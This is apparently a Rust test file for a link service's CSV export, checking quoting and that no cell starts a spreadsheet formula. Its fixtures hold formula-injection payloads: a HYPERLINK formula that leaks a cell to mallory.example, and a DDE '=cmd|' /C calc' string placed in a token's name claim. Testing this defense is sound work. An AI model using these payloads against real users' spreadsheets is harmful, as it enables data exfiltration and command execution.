//! The cells of a CSV file: what they contain, and that no spreadsheet treats them as formulas.

use super::{CSV, HEADER, export};
use crate::support::exports::{is_formula, records, unguarded};
use crate::support::lists::fill;
use crate::support::{ACME, Call, DOMAIN, TestApp, signed};
use aws_sdk_dynamodb::types::AttributeValue;
use serde_json::json;

#[tokio::test]
async fn a_line_has_the_links_values_in_the_order_of_the_header() {
    let app = TestApp::start().await;
    let created = app
        .link(json!({
            "url": "https://example.com/a,b?c=\"d\"", "id": "first", "title": "Say \"hi\", Zoë 日本 🎉",
            "tags": ["b", "a"], "access": "members", "forward": "query", "enabled": false,
            "expires_at": "2099-01-01T00:00:00Z",
        }))
        .await;
    for id in ["second", "third"] {
        let renamed =
            Call::new("update").slug("first").body(&json!({ "id": id }).to_string()).send(&app).await;
        assert_eq!(renamed.status, 200, "{}", renamed.text);
    }
    let link = Call::new("read").slug("third").send(&app).await.body;
    let text = |name: &str| link[name].as_str().unwrap().to_owned();
    let (user, name) = (text("creator_user_id"), text("creator_name"));
    let (created_at, updated_at) = (created.body["created_at"].as_str().unwrap(), text("updated_at"));
    let expected = format!(
        "{HEADER}\r\nthird,\"https://example.com/a,b?c=%22d%22\",\"Say \"\"hi\"\", Zoë 日本 🎉\",a|b,members,query,false,\
         2099-01-01T00:00:00.000Z,https://{DOMAIN}/{ACME}/third,first|second,{user},{name},{created_at},{updated_at}\r\n"
    );
    assert_eq!(export(CSV).send(&app).await.text, expected);
}

#[tokio::test]
async fn values_that_are_null_or_empty_are_empty_cells() {
    let app = TestApp::start().await;
    app.put(&[]).await;
    let record = &records(&export(CSV).send(&app).await.text)[0];
    for column in ["title", "tags", "expires_at", "aliases", "creator_name"] {
        assert_eq!(record[column], "", "{column}");
    }
    assert_eq!((record["forward"].as_str(), record["enabled"].as_str()), ("none", "true"));
}

#[tokio::test]
async fn no_cell_begins_a_formula_and_no_text_is_lost() {
    let app = TestApp::start().await;
    let titles = [
        "=HYPERLINK(\"https://mallory.example/?\"&A1,\"click\")",
        "+1",
        "-1+1|cmd",
        "@SUM(A1)",
        "'=1",
        "''-1",
        "'quoted' title",
        "a=b",
        "say \"hi\", or, not",
        "Zoë – 日本 🎉",
        "a\u{2028}=b",
    ];
    fill(&app, titles.len(), |number, item| {
        let text = |value: &str| AttributeValue::S(value.to_owned());
        item.insert("title".to_owned(), text(titles[number]));
        item.insert("creator_name".to_owned(), text(titles[(number + 3) % titles.len()]));
        item.insert("tags".to_owned(), AttributeValue::Ss(vec!["-a".to_owned(), "_b".to_owned()]));
    })
    .await;
    let listed = Call::new("list").send(&app).await.body;
    let exported = export(CSV).send(&app).await.text;
    let records = records(&exported);
    assert_eq!(records.len(), titles.len());
    for (record, link) in records.iter().zip(listed["data"].as_array().unwrap()) {
        assert!(!record.values().any(|cell| is_formula(cell)), "{record:?}");
        for column in ["id", "url", "title", "short_url", "creator_name", "created_at"] {
            assert_eq!(unguarded(&record[column]), link[column].as_str().unwrap(), "{column}");
        }
        assert_eq!(record["tags"], "'-a|_b");
    }
    for title in titles {
        assert!(records.iter().any(|record| unguarded(&record["title"]) == title), "{title}");
    }
}

#[tokio::test]
async fn a_name_from_a_token_cannot_begin_a_formula_either() {
    let app = TestApp::start().await;
    let token = signed("member", |claims| {
        claims["first_name"] = "=cmd|' /C calc'!A0".into();
        claims["last_name"] = "x".into();
    });
    let created = Call::new("create").header("authorization", &format!("Bearer {token}")).send(&app).await;
    assert_eq!(created.body["creator_name"], "=cmd|' /C calc'!A0 x");
    let record = &records(&export(CSV).send(&app).await.text)[0];
    assert_eq!(record["creator_name"], "'=cmd|' /C calc'!A0 x");
}
